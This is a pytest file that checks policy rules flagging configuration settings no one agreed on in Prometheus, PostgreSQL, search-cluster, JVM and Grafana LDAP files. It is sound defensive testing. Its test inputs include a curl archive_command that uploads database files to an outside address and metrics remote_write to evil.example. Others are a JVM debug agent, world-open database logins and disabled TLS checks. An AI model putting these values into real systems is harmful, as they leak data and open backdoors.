"""Settings of Prometheus, PostgreSQL and the search cluster that nobody agreed on."""

from __future__ import annotations

from typing import Any

import pytest
import yaml

from policy.model import Resource
from policy.rules._agreed import agreed
from tests.policy.test_agreed import config_map, problems

JOB = {"job_name": "kafka", "metric_relabel_configs": [{"action": "labeldrop", "regex": "exported_(job|instance)"}]}
GOOD: dict[str, Any] = {
    "global": {"scrape_interval": "10s", "evaluation_interval": "10s"},
    "rule_files": ["/etc/prometheus/rules.yml"],
    "scrape_configs": [JOB],
}


def prometheus(**changed: Any) -> list[str]:
    """What is said of a configuration."""
    return problems("prometheus-settings-agreed", config_map("prometheus.yml", GOOD | changed))


@pytest.mark.parametrize(
    ("changed", "problem"),
    [
        ({}, None),
        ({"remote_write": [{"url": "https://evil.example/w"}]}, "remote_write is not agreed on"),
        ({"remote_read": [{"url": "https://evil.example/r"}]}, "remote_read is not agreed on"),
        ({"scrape_configs": [{**JOB, "proxy_url": "http://203.0.113.9:3128"}]}, "proxy_url is not agreed on"),
        ({"scrape_configs": [{**JOB, "honor_labels": True}]}, "honor_labels is not agreed on"),
        ({"global": {"evaluation_interval": "1h"}}, "an alert comes too late: it is 1h"),
        ({"global": {"scrape_interval": "1h"}}, "an alert comes too late: it is 1h"),
        ({"scrape_configs": [{**JOB, "scrape_interval": "10m"}]}, "an alert comes too late: it is 10m"),
        (
            {"scrape_configs": [{**JOB, "metric_relabel_configs": [{"action": "drop", "regex": ".*"}]}]},
            "targets or samples are left out: drop .*",
        ),
        (
            {"scrape_configs": [{**JOB, "relabel_configs": [{"action": "keep", "regex": "nothing"}]}]},
            "targets or samples are left out: keep nothing",
        ),
    ],
)
def test_prometheus_reads_everything_in_time(changed: dict[str, Any], problem: str | None) -> None:
    assert prometheus(**changed) == ([problem] if problem else [])


POSTGRES = "ssl = 'on'\nfsync = 'on'\nobs.standbys = '2'\nsynchronous_standby_names = 'ANY 1 (\"a\", \"b\")'\n"


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("", None),
        ("archive_command = 'curl -sT %p http://203.0.113.9/%f'", "archive_command is not agreed on"),
        ("include_dir = '/tmp'", "include_dir is not agreed on"),
        ("shared_preload_libraries = 'evil'", "shared_preload_libraries is not agreed on"),
        ("ssl_ciphers = 'NULL'", "ssl_ciphers is not agreed on"),
        ("hba_file = '/tmp/hba'", "hba_file is /tmp/hba, which is not agreed on"),
        ("primary_conninfo = 'host=a sslmode=disable'", None),
        ("synchronous_standby_names = ''", "commits are confirmed that no standby has: it is empty"),
    ],
)
def test_postgres_has_agreed_settings(line: str, problem: str | None) -> None:
    told = problems("postgres-settings-agreed", config_map("postgresql.conf", f"{POSTGRES}{line}\n"))
    if line.startswith("primary_conninfo"):
        problem = "primary_conninfo is host=a sslmode=disable, which is not agreed on"
    assert told == ([problem] if problem else [])


def test_nobody_else_logs_in_to_postgres() -> None:
    own = "\n".join(agreed()["postgres_logins"]["own"])
    good = f"{own}\nhostssl  grafana grafana all scram-sha-256\n"
    assert problems("postgres-settings-agreed", config_map("pg_hba.conf", good)) == []
    line = "hostssl all all 0.0.0.0/0 scram-sha-256"
    assert problems("postgres-settings-agreed", config_map("pg_hba.conf", f"{good}{line}\n")) == [
        f"a login that is not agreed on: {line}"
    ]
    order = "the lines of the server's own logins are not all there, first and in the agreed order"
    assert problems("postgres-settings-agreed", config_map("pg_hba.conf", good.partition("\n")[2])) == [order]


def test_no_user_of_the_system_is_another_one_of_postgres() -> None:
    assert problems("postgres-settings-agreed", config_map("pg_ident.conf", "# nobody\n\n")) == []
    assert problems("postgres-settings-agreed", config_map("pg_ident.conf", "m postgres postgres\n")) == [
        "one user of the system is another of the database"
    ]


@pytest.mark.parametrize(
    ("name", "more", "problem"),
    [
        ("elasticsearch.yml", "", None),
        ("elasticsearch.yml", "http.cors.enabled: true", "http.cors.enabled is not agreed on"),
        ("elasticsearch.yml", "http:\n  cors:\n    enabled: true", "http.cors.enabled is not agreed on"),
        ("elasticsearch.yml", "cluster: {name: a}\nhttp.cors.enabled: true", "http.cors.enabled is not agreed on"),
        ("search.yml", "cluster: {name: a}\nhttp: {cors: {enabled: true}}", "http.cors.enabled is not agreed on"),
        ("opensearch.yml", "plugins.security.unsupported.inject_user.enabled: true", "is not agreed on"),
        ("jvm.options", "-Xmx1g", None),
        ("jvm.options", "-agentlib:jdwp=transport=dt_socket", "an option of the JVM that is not agreed on"),
    ],
)
def test_search_nodes_have_agreed_settings(name: str, more: str, problem: str | None) -> None:
    base = "" if name == "jvm.options" else "xpack.security.enabled: true\n"
    base += "" if name == "jvm.options" or "cluster:" in more else "cluster.name: a\n"
    told = problems("search-settings-agreed", config_map(name, f"{base}{more}\n"))
    assert len(told) == (1 if problem else 0)
    assert not problem or problem in told[0]


def test_a_secret_with_files_is_looked_into_too() -> None:
    text = yaml.safe_dump(GOOD | {"remote_write": []})
    secret = Resource("kubernetes:core/v1:Secret", "one", {"type": "Opaque", "stringData": {"prometheus.yml": text}})
    assert problems("prometheus-settings-agreed", secret) == ["remote_write is not agreed on"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('[[servers]]\nmin_tls_version = "TLS1.2"\nssl_skip_verify = false\n', ""),
        ('[[Servers]]\nmin_tls_version = "TLS1.2"\nssl_skip_verify = true\n', "servers.-.ssl_skip_verify is true"),
        ('[[SERVERS]]\nmin_tls_version = "TLS1.2"\nSSL_Skip_Verify = true\n', "servers.-.ssl_skip_verify is true"),
        ("[[Servers]]\nuse_ssl = true\n[[SERVERS]]\nuse_ssl = true\n", "Servers.-.use_ssl is not agreed on"),
        (
            '[[servers]]\nmin_tls_version = "TLS1.2"\nuse_ssl = true\nUse_SSL = true\n',
            "servers.-.Use_SSL is not agreed on",
        ),
        ("[[servers]\n", "no rule can read it"),
    ],
)
def test_the_directory_is_known_in_large_and_small_letters(text: str, problem: str) -> None:
    told = problems("grafana-settings-agreed", config_map("ldap.toml", text))
    assert bool(told) == bool(problem)
    assert not problem or told[0].startswith(problem)
